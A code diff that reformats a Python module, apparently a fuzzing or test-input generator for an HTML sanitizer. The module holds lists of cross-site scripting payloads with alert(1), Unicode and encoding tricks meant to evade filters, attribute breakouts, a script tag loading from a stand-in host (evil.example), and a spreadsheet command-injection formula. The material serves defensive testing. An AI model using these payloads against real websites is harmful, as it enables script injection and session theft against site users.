@@ -66,7 +66,7 @@ _DRAWINGS = (
     "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
     "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
     "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
     "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
     "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
     "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
@@ -76,13 +76,25 @@ _DRAWINGS = (
     "<svg><title><img src=x onerror=alert(1)></title></svg>",
 )
 _BREAKS = (
-    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
-    '" autofocus onfocus="alert(1)', "' autofocus onfocus=alert(1) x='", '"><script>alert(1)</script>',
-    "'><script>alert(1)</script>", '"/><img src=x onerror=alert(1)>', "'/><svg/onload=alert(1)>",
-    '&quot; onclick=&quot;alert(1)', "&#34;&#62;<svg/onload=alert(1)>", '" style="animation:x" onanimationstart="alert(1)',
-    '\\" onload=\\"alert(1)', '">\n<script>alert(1)</script>', "\">\u2028<script>alert(1)</script>",
-    'x" href="javascript:alert(1)', 'x" srcset="x 1x" onerror="alert(1)', '" accesskey="x" onclick="alert(1)" x="',
-)  # fmt: skip
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    "` onmouseover=`alert(1)",
+    '" autofocus onfocus="alert(1)',
+    "' autofocus onfocus=alert(1) x='",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '"/><img src=x onerror=alert(1)>',
+    "'/><svg/onload=alert(1)>",
+    "&quot; onclick=&quot;alert(1)",
+    "&#34;&#62;<svg/onload=alert(1)>",
+    '" style="animation:x" onanimationstart="alert(1)',
+    '\\" onload=\\"alert(1)',
+    '">\n<script>alert(1)</script>',
+    '">\u2028<script>alert(1)</script>',
+    'x" href="javascript:alert(1)',
+    'x" srcset="x 1x" onerror="alert(1)',
+    '" accesskey="x" onclick="alert(1)" x="',
+)
 _ENDS = (
     "</title>", "</textarea>", "</script>", "</style>", "</select>", "</option>", "</noscript>", "-->",
     "--!>", "]]>", "?>", "%>", "</head>", "</svg>", "</math>", "</template>", "</iframe>", "</xmp>",
@@ -102,25 +114,58 @@ _BRACES = (
     "$x$ *b* _i_ `raw`", "@import url(javascript:alert(1));", "expression(alert(1))", "=cmd|' /C calc'!A0",
 )  # fmt: skip
 _SIGNS = (
-    "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>", "<scr\u200bipt>alert(1)</script>",
-    "<scr\u2060ipt>alert(1)</script>", "<\u200bscript>alert(1)</script>", "\u202e<script>alert(1)</script>",
-    "\ufeff<script>alert(1)</script>", "<script\u0e31>alert(1)</script>", "<ก><script>alert(1)</script>",
-    "<img src=x on\u200berror=alert(1)>", "<img src=x on\u00aderror=alert(1)>", "<img\u00a0src=x onerror=alert(1)>",
-    "<img\u3000src=x onerror=alert(1)>", "‹script›alert(1)‹/script›", "%3Cscript%3Ealert(1)%3C/script%3E",
-    "%253Cscript%253E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\\x3cscript\\x3e",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<script\x00>alert(1)</script>", "<\x00script>alert(1)</script>",
-    "<a\u0e38\u0e39 href=javascript:alert(1)>", "<İmg src=x onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>",
-    "<k\u212a onclick=alert(1)>", "๑<script>alert(๑)</script>", "<script>อเลิร์ต(1)</script>",
-    "น้ำ<svg/onload=alert(1)>พริก", "เ<b>แ", "ก\u0e33<img src=x onerror=alert(1)>\u0e33", "𝒔𝒄𝒓𝒊𝒑𝒕:alert(1)",
-)  # fmt: skip
+    "＜script＞alert(1)＜/script＞",
+    "<ſcript>alert(1)</ſcript>",
+    "<scr\u200bipt>alert(1)</script>",
+    "<scr\u2060ipt>alert(1)</script>",
+    "<\u200bscript>alert(1)</script>",
+    "\u202e<script>alert(1)</script>",
+    "\ufeff<script>alert(1)</script>",
+    "<script\u0e31>alert(1)</script>",
+    "<ก><script>alert(1)</script>",
+    "<img src=x on\u200berror=alert(1)>",
+    "<img src=x on\u00aderror=alert(1)>",
+    "<img\u00a0src=x onerror=alert(1)>",
+    "<img\u3000src=x onerror=alert(1)>",
+    "‹script›alert(1)‹/script›",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "%253Cscript%253E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&#x3c;img src=x onerror=alert(1)&#x3e;",
+    "\\x3cscript\\x3e",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<script\x00>alert(1)</script>",
+    "<\x00script>alert(1)</script>",
+    "<a\u0e38\u0e39 href=javascript:alert(1)>",
+    "<İmg src=x onerror=alert(1)>",
+    "<IMG SRC=x ONERROR=alert(1)>",
+    "<k\u212a onclick=alert(1)>",
+    "๑<script>alert(๑)</script>",
+    "<script>อเลิร์ต(1)</script>",
+    "น้ำ<svg/onload=alert(1)>พริก",
+    "เ<b>แ",
+    "ก\u0e33<img src=x onerror=alert(1)>\u0e33",
+    "𝒔𝒄𝒓𝒊𝒑𝒕:alert(1)",
+)
 _SCRIPTS = (
-    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=data:,alert(1)>",
-    "<ScRiPt>alert`1`</sCrIpT>", "<script type=module>alert(1)</script>", "<script\n>alert(1)</script\n>",
-    "<<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)",
-    "<script>/*", "<script x>alert(1)</script y>", "<script src=x onerror=alert(1)></script>",
-    "<script type='application/ld+json'>{}</script>", "<script nonce=x>alert(1)</script>", "</br><script>alert(1)</script>",
-)  # fmt: skip
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script/src=data:,alert(1)>",
+    "<ScRiPt>alert`1`</sCrIpT>",
+    "<script type=module>alert(1)</script>",
+    "<script\n>alert(1)</script\n>",
+    "<<script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script>alert(1)",
+    "<script>/*",
+    "<script x>alert(1)</script y>",
+    "<script src=x onerror=alert(1)></script>",
+    "<script type='application/ld+json'>{}</script>",
+    "<script nonce=x>alert(1)</script>",
+    "</br><script>alert(1)</script>",
+)
 
 
 @dataclass(frozen=True, slots=True)
@@ -169,7 +214,9 @@ def _with_handlers(dice: random.Random) -> Iterator[str]:
     for tag, handler in product(_TAGS, _HANDLERS):
         gap = dice.choice(_SEPARATORS)
         name = "".join(dice.choice((letter, letter.upper())) for letter in handler)
-        js = dice.choice((_JS, "&#97;lert(1)", "'alert(1)'", '"alert(1)"', "alert`1`", "\\u0061lert(1)"))
+        js = dice.choice(
+            (_JS, "&#97;lert(1)", "'alert(1)'", '"alert(1)"', "alert`1`", "\\u0061lert(1)")
+        )
         yield f"<{tag.replace(' ', gap, 1)}{gap}{name}={js}>"
 
 
